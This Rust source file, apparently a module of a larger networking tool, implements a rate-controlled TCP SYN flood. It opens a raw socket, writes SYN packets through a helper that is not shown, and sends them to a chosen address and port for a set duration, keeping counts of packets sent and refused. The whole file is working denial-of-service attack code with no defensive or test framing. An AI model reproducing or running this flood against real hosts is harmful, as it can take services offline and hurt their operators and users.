//! A SYN flood from a raw socket of the kernel.

use std::io;
use std::net::SocketAddrV4;
use std::time::{Duration, Instant};

use rustix::io::Errno;
use rustix::net::{
    AddressFamily, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with,
};

use crate::syn;

/// SYNs between two looks at the clock.
const BURST: u64 = 32;
/// How long to sleep when none is due.
const NAP: Duration = Duration::from_micros(200);

/// What was sent.
#[derive(Clone, Copy, Debug)]
pub struct Sent {
    /// SYNs.
    pub syns: u64,
    /// Of these the kernel did not take so many.
    pub refused: u64,
    /// How long it took.
    pub seconds: f64,
}

/// Sends `rate` SYNs a second to `to` for `time`, as fast as it can if that is too fast.
///
/// # Errors
/// When there is no right to a raw socket, or no way to `to`.
pub fn flood(to: SocketAddrV4, rate: f64, time: Duration) -> io::Result<Sent> {
    let socket = socket_with(
        AddressFamily::INET,
        SocketType::RAW,
        SocketFlags::CLOEXEC,
        Some(ipproto::RAW),
    )?;
    let at = SocketAddrV4::new(*to.ip(), 0);
    let (mut packet, mut syns, mut refused) = ([0; syn::LEN], 0, 0);
    let begin = Instant::now();
    loop {
        let elapsed = begin.elapsed();
        if elapsed >= time {
            let seconds = elapsed.as_secs_f64();
            return Ok(Sent {
                syns,
                refused,
                seconds,
            });
        }
        let due = ((elapsed.as_secs_f64() * rate) as u64)
            .saturating_sub(syns)
            .min(BURST);
        for _ in 0..due {
            syn::write(&mut packet, syns, *to.ip(), to.port());
            syns += 1;
            match sendto(&socket, &packet, SendFlags::empty(), &at) {
                Ok(_) => {}
                Err(Errno::NOBUFS | Errno::AGAIN | Errno::INTR) => refused += 1,
                Err(e) => return Err(e.into()),
            }
        }
        if due == 0 {
            std::thread::sleep(NAP);
        }
    }
}
